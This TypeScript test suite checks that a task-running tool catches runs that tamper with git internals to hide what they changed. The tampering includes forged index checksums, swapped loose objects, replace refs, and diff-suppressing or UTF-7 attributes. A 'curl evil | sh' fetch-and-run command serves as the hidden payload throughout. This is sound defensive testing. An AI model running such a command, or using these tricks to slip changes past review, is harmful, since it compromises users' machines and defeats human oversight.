/** What a run writes into git's own files by itself, as no git would: its index, its objects, its refs. */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  existsSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import type { TaskRecord } from '../../src/task/record.ts';
import { put, Repository, shell } from '../worktree/repository.ts';

const EVIL = 'curl evil | sh\n';
const PLAIN = { options: { worktree: false, retries: 0 } };

describe('what a run wrote into a repository by itself', function () {
  this.timeout(120_000);
  let repository: Repository;
  beforeEach(async () => {
    repository = await Repository.make();
  });
  afterEach(() => repository.remove());

  const index = (): string => join(repository.folder, '.git', 'index');
  const blob = (content: string): string =>
    repository.gitWith(content, 'hash-object', '-w', '--stdin').trim();
  /** The index with other bytes, and the sum that git reads it by. */
  const forge = (change: (bytes: Buffer) => Buffer): void => {
    const bytes = change(readFileSync(index()).subarray(0, -20));
    writeFileSync(`${index()}.new`, Buffer.concat([bytes, createHash('sha1').update(bytes).digest()]));
    renameSync(`${index()}.new`, index());
  };
  const swap = (from: string, to: string): void =>
    forge((bytes) => {
      const was = Buffer.from(from, 'hex');
      assert.ok(bytes.includes(was), 'the test would change nothing');
      for (let at = bytes.indexOf(was); at !== -1; at = bytes.indexOf(was, at + 1))
        bytes.write(to, at, 'hex');
      return bytes;
    });
  const looseOf = (id: string): string =>
    join(repository.folder, '.git', 'objects', id.slice(0, 2), id.slice(2));
  const lost = ({ status, result }: TaskRecord, words: RegExp): void => {
    assert.equal(status, 'failed', 'it completed');
    assert.equal(result?.error?.code, 'repository_lost', result?.error?.message);
    assert.match(result?.error?.message ?? '', words);
  };
  const asideIn = (folder: string): string[] =>
    readdirSync(folder).filter((name) => name.includes('.koubou-aside-'));
  /** Settled so that git takes the files for what the index says. */
  const settled = (): void => {
    shell(repository.folder, 'touch -d "1 hour ago" shared.txt sub/a.txt');
    repository.git('update-index', '--refresh');
    repository.git('commit', '-q', '--allow-empty', '-m', 'settled');
  };

  describe('its index', () => {
    it('is set aside where it says of a file what is not so, and hides no later change', async () => {
      settled();
      const record = await repository.ran(() => {
        swap(repository.git('rev-parse', 'HEAD:sub/a.txt').trim(), blob(EVIL));
        put('b.txt', 'work\n')(repository.folder);
      }, PLAIN);
      lost(record, /sub\/a\.txt/);
      assert.equal(asideIn(dirname(index())).length, 1);
      const next = await repository.ran(put('sub/a.txt', EVIL), PLAIN);
      assert.match(await repository.patchOf(next.task_id), /sub\/a\.txt/);
    });

    it('is set aside where the trees of its folders are others than its entries make', async () => {
      repository.git('update-index', '--refresh');
      const tree = repository.git('write-tree').trim();
      const sub = repository.git('rev-parse', `${tree}:sub`).trim();
      const evil = repository.gitWith(`100644 blob ${blob(EVIL)}\ta.txt\n`, 'mktree').trim();
      const record = await repository.ran(() => {
        swap(sub, evil);
        put('b.txt', 'work\n')(repository.folder);
      }, PLAIN);
      lost(record, /the trees of its folders/);
      repository.git('reset', '-q');
      repository.commit('mine');
      assert.equal(repository.git('show', 'HEAD:sub/a.txt'), 'a\n');
    });

    it('is set aside also where it lies about what is outside of the folder of the work', async () => {
      repository.git('update-index', '--refresh');
      const sub = repository.git('rev-parse', `${repository.git('write-tree').trim()}:sub`).trim();
      const evil = repository.gitWith(`100644 blob ${blob(EVIL)}\ta.txt\n`, 'mktree').trim();
      shell(repository.folder, 'mkdir other');
      const record = await repository.ran(
        (cwd) => {
          swap(sub, evil);
          put('b.txt', 'work\n')(cwd);
        },
        { ...PLAIN, cwd: `${repository.folder}/other` },
      );
      lost(record, /the trees of its folders/);
    });

    it('is left alone where git itself wrote it: staged files, files for later, bits and conflicts', async () => {
      settled();
      const { status, result } = await repository.ran(() => {
        put('b.txt', 'work\n')(repository.folder);
        put('sub/a.txt', 'other\n')(repository.folder);
        put('later.txt', 'x\n')(repository.folder);
        shell(
          repository.folder,
          `git add sub/a.txt; git add -N later.txt; git update-index --assume-unchanged shared.txt; echo more >>sub/a.txt
          git update-index --split-index; id=$(git rev-parse :0:shared.txt); printf '100644 %s 1\\tc.txt\\n100644 %s 2\\tc.txt\\n' $id $id | git update-index --index-info`,
        );
      }, PLAIN);
      assert.equal(status, 'completed', result?.error?.message);
      assert.deepEqual(asideIn(dirname(index())), []);
    });

    it('is left alone where files are left out, and where a tree has modes of old', async () => {
      const old = repository.gitWith(
        `100664 blob ${repository.git('rev-parse', 'HEAD:sub/a.txt').trim()}\ta.txt\n`,
        'mktree',
      );
      const listed = repository
        .git('ls-tree', 'HEAD')
        .replace(/^(040000 tree )[0-9a-f]+(\tsub)$/m, `$1${old.trim()}$2`);
      const tree = repository.gitWith(listed, 'mktree').trim();
      repository.git(
        'reset',
        '-q',
        '--hard',
        repository.git('commit-tree', tree, '-p', 'HEAD', '-m', 'old').trim(),
      );
      repository.write('left-out.txt', 'one\n');
      repository.commit('one');
      repository.write('left-out.txt', 'two\n');
      repository.commit('two');
      shell(repository.folder, 'git sparse-checkout set --no-cone "/*" "!/left-out.txt"');
      const { status, result } = await repository.ran((cwd) => {
        put('b.txt', 'work\n')(cwd);
        shell(cwd, 'git reset -q --hard HEAD~1; echo b >b.txt; git add b.txt');
      }, PLAIN);
      assert.equal(status, 'completed', result?.error?.message);
    });

    it('is looked through in both its parts for a home', async () => {
      const { result } = await repository.ran(() => {
        put('b.txt', 'work\n')(repository.folder);
        repository.git(
          'update-index',
          '--add',
          '--cacheinfo',
          `100644,${blob('x')},sub/.koubou/config/agent.yaml`,
        );
        repository.git('update-index', '--split-index');
      }, PLAIN);
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is looked through for a home outside of the folder of the work', async () => {
      shell(repository.folder, 'mkdir other');
      const { result } = await repository.ran(
        (cwd) => {
          put('b.txt', 'work\n')(cwd);
          const home = `100644,${blob('x')},sub/.koubou/config/agent.yaml`;
          repository.git('update-index', '--add', '--cacheinfo', home);
        },
        { ...PLAIN, cwd: `${repository.folder}/other` },
      );
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is looked through for a home that came while the check ran', async () => {
      const check = `git update-index --add --cacheinfo 100644,${blob('x')},sub/.koubou/config/agent.yaml`;
      const { result } = await repository.ran(put('b.txt', 'work\n'), {
        options: { ...PLAIN.options, check },
      });
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is not copied where it is a hole as large as a disk', async () => {
      const record = await repository.ran(() => {
        put('b.txt', 'work\n')(repository.folder);
        truncateSync(index(), 2 ** 40);
      }, PLAIN);
      assert.ok(['completed', 'failed'].includes(record.status));
    });
  });

  describe('its objects', () => {
    /** A tree in the place of another one, as a loose object. */
    const overwrite = (id: string, content: Buffer, type = 'tree'): void => {
      rmSync(looseOf(id), { force: true });
      writeFileSync(
        looseOf(id),
        deflateSync(Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content])),
      );
    };

    for (const worktree of [false, true]) {
      it(`are set aside where they are not what their names say, ${worktree ? 'in a worktree' : 'in a folder'}`, async () => {
        const sub = repository.git('rev-parse', 'HEAD:sub').trim();
        const entry = Buffer.concat([Buffer.from('100644 a.txt\0'), Buffer.from(blob(EVIL), 'hex')]);
        const record = await repository.ran(
          (cwd) => {
            put('sub/a.txt', EVIL)(cwd);
            put('b.txt', 'work\n')(cwd);
            overwrite(sub, entry);
          },
          { options: { worktree, retries: 0 } },
        );
        lost(record, new RegExp(`objects/${sub.slice(0, 2)}/${sub.slice(2)}`));
        assert.ok(!existsSync(looseOf(sub)));
      });
    }

    it('are no pipe at which the next git waits', async () => {
      const id = repository.git('rev-parse', 'HEAD:sub/a.txt').trim();
      const record = await repository.ran((cwd) => {
        put('b.txt', 'work\n')(cwd);
        rmSync(looseOf(id));
        execFileSync('mkfifo', [looseOf(id)]);
      }, PLAIN);
      lost(record, /objects/);
      assert.ok(!existsSync(looseOf(id)));
    });

    it('are left alone where they cannot be read for want of descriptors', async () => {
      const id = repository.git('rev-parse', 'HEAD:sub/a.txt').trim();
      const limit = spawnSync(
        'prlimit',
        [
          '--nofile=40',
          process.execPath,
          '-e',
          `
          const fs = require('node:fs');
          import('${new URL('../../src/verify/loose-object.ts', import.meta.url).href}').then(async ({ isGenuine }) => {
            const held = [];
            try { for (;;) held.push(fs.openSync('/dev/null')); } catch {}
            const said = await isGenuine('${looseOf(id)}', '${id}').then(String, (error) => error.code);
            held.forEach((each) => fs.closeSync(each));
            console.log(said);
          });`,
        ],
        { encoding: 'utf8' },
      );
      assert.equal(limit.stdout.trim(), 'EMFILE', limit.stderr);
    });

    it('are left alone where git wrote them: commits, and all of them packed', async () => {
      const { status, result, task_id } = await repository.ran((cwd) => {
        put('b.txt', 'work\n')(cwd);
        repository.commit('of the agent');
        repository.git('gc', '-q');
      }, PLAIN);
      assert.equal(status, 'completed', result?.error?.message);
      assert.match(await repository.logOf(task_id), /packs of objects came/);
      repository.git('fsck', '--full', '--strict');
    });
  });

  it('replaces no object: such refs are renamed, and the run has failed', async () => {
    const tree = repository.git('rev-parse', 'HEAD^{tree}').trim();
    const evil = repository.gitWith(`100644 blob ${blob(EVIL)}\tshared.txt\n`, 'mktree').trim();
    const record = await repository.ran((cwd) => {
      put('b.txt', 'work\n')(cwd);
      repository.git('update-ref', `refs/replace/${tree}`, evil);
    }, PLAIN);
    lost(record, /another content/);
    assert.equal(repository.git('for-each-ref', 'refs/replace'), '');
    assert.match(repository.git('for-each-ref', '--format=%(refname) %(objectname)'), new RegExp(evil));
  });

  for (const [what, act, code] of [
    ['refs that git cannot list', 'echo garbage >.git/packed-refs', 'repository_lost'],
    ['a part of a home', 'mkdir -p sub/.koubou; echo x >sub/.koubou/x', 'home_in_changes'],
  ] as const) {
    it(`fails for good where it left ${what}: the next run would take it for what was there`, async () => {
      let runs = 0;
      const { status, result } = await repository.ran(
        (cwd) => {
          runs += 1;
          put('b.txt', 'work\n')(cwd);
          shell(repository.folder, act);
        },
        { options: { worktree: false, retries: 2 } },
      );
      assert.deepEqual([status, result?.error?.code, runs], ['failed', code, 1]);
    });
  }

  it('hides nothing from a diff by an attribute', async () => {
    const { task_id } = await repository.ran((cwd) => {
      put('sub/.gitignore', '*\n')(cwd);
      put('sub/.gitattributes', '*.txt -diff\n')(cwd);
      put('sub/a.txt', EVIL)(cwd);
    }, PLAIN);
    assert.match(await repository.patchOf(task_id), /^\+curl evil \| sh$/m);
  });

  for (const worktree of [false, true]) {
    it(`has git read no file by another encoding, ${worktree ? 'in a worktree' : 'in a folder'}`, async () => {
      const { status, result } = await repository.ran(
        (cwd) => {
          put('sub/.gitignore', '*\n')(cwd);
          put('sub/.gitattributes', '*.txt working-tree-encoding=UTF-7\n')(cwd);
          put('sub/a.txt', 'a +ACM- then; evil\n')(cwd);
          put('b.txt', 'work\n')(cwd);
        },
        { options: { worktree, retries: 0 } },
      );
      assert.equal(status, 'failed');
      assert.equal(result?.error?.code, 'output_changed', result?.error?.message);
      assert.match(result?.error?.message ?? '', /sub\/a\.txt/);
    });
  }

  it('may be read by an encoding that was there before', async () => {
    repository.write('.gitattributes', '*.rc working-tree-encoding=UTF-16LE\n');
    repository.write('x.rc', Buffer.from('one\n', 'utf16le'));
    repository.commit('sixteen');
    const { status, result, task_id } = await repository.ran(
      put('x.rc', Buffer.from('two\n', 'utf16le')),
      PLAIN,
    );
    assert.equal(status, 'completed', result?.error?.message);
    assert.match(await repository.patchOf(task_id), /^\+two$/m);
  });

  it('is shown of every attempt where each goes on from the other', async () => {
    let runs = 0;
    const { task_id, attempts } = await repository.ran(
      (cwd) => {
        runs += 1;
        if (runs === 1) put('sub/a.txt', EVIL)(cwd);
        else put('b.txt', 'harmless\n')(cwd);
      },
      { options: { worktree: false, retries: 1, check: 'test -e b.txt' } },
    );
    assert.equal(attempts.length, 2);
    const patch = await repository.patchOf(task_id);
    assert.match(patch, /^\+curl evil \| sh$/m);
    assert.match(patch, /^\+harmless$/m);
    repository.git('stash', '-uq');
    repository.gitWith(patch, 'apply');
    assert.equal(repository.read('sub/a.txt'), EVIL);
  });

  it('is applied where the branch is an older commit of the user’s', async () => {
    repository.write('login.txt', 'checked\n');
    repository.commit('safe');
    repository.write('login.txt', 'hole\n');
    repository.commit('hole');
    const id = await repository.done((cwd) => shell(cwd, 'git reset -q --hard HEAD~1'));
    assert.equal((await repository.apply(id)).result, 'applied');
    assert.equal(repository.read('login.txt'), 'checked\n');
  });
});
